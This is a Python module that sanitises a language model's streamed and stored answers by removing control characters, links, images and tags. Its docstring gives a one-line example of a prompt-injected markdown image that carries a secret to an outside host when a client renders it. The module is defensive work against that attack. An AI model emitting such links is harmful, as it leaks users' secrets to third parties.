"""One way for the model's text to reach anybody: without control characters, links or images.

A document can make a model write `![](https://somewhere/?q=secret)`, and a client that renders
it would send the secret. The same code cleans streamed and stored text, so there is no second
path to forget. Text is held back only while it could still become a link.
"""

import re

CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b-\u200f\u202a-\u202e\u2060-\u2069\ufeff]")
URL = re.compile(r"(?:[a-z][a-z0-9+.-]*:)?//[^\s<>\"'）」』，。]+|(?:javascript|data):\S+", re.I)
LINK_TARGET = re.compile(r"\]\([^)\s]*\)?")
REFERENCE = re.compile(r"!\[")
TAG = re.compile(r"<(?=[a-zA-Z/!])")
#: The end of the text that may still grow into one of the above: a run of ASCII without a space.
UNFINISHED = re.compile(r"[!-~]+\Z")
LONGEST_HELD = 400
REMOVED = "[link removed]"


class Sanitiser:
    """Cleans one answer while it is written."""

    def __init__(self) -> None:
        self._held = ""

    def push(self, text: str) -> str:
        """Add text; returns what can be shown now."""
        self._held += text
        match = UNFINISHED.search(self._held)
        cut = match.start() if match else len(self._held)
        if len(self._held) - cut > LONGEST_HELD:
            cut = len(self._held)
        ready, self._held = self._held[:cut], self._held[cut:]
        return clean(ready)

    def finish(self) -> str:
        """The rest, when nothing more will come."""
        rest, self._held = self._held, ""
        return clean(rest)


def clean(text: str) -> str:
    """`text` as it may be shown and stored."""
    text = CONTROL.sub("", text)
    text = LINK_TARGET.sub("]", text)
    text = REFERENCE.sub("[", text)
    text = URL.sub(REMOVED, text)
    return TAG.sub("‹", text)
